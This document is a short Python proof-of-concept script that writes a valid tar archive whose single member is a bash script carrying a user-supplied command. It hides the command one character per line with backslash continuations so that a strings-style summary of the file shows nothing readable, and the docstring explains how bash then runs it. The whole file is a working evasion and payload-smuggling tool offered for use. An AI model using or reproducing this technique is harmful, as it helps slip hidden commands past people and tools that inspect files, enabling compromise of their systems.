"""H0 PoC: a valid tar archive (one member named '#') whose data is a bash script hidden from the
stream summary's strings; `tar x -C\\n /bin/bash` runs it. Usage: shtar.py OUT 'COMMAND'"""
import sys
B=512
def hdr(name, size, typ=b'0'):
    h=bytearray(B)
    h[0:len(name)]=name
    h[100:108]=b'0000644\0'; h[108:116]=b'0001750\0'; h[116:124]=b'0001750\0'
    h[124:136]=b'%011o\0'%size; h[136:148]=b'14712345670\0'
    h[156]=typ[0]; h[257:265]=b'ustar\x0000'
    h[148:156]=b'        '; h[148:156]=b'%06o\0 '%sum(h)
    return bytes(h)
def hide(cmd):  # one character per line: no printable run of 3 before a newline
    return b''.join(bytes([c])+b'\\\n' for c in cmd)+b'\n'
cmd=sys.argv[2].encode()
script=b'\n'+hide(cmd)+b'#'+b'\x01'*200+b'\n'+hide(b'exit')
data=hdr(b'#',len(script))+script+b'\0'*((-len(script))%B)+b'\0'*1024
open(sys.argv[1],'wb').write(data)
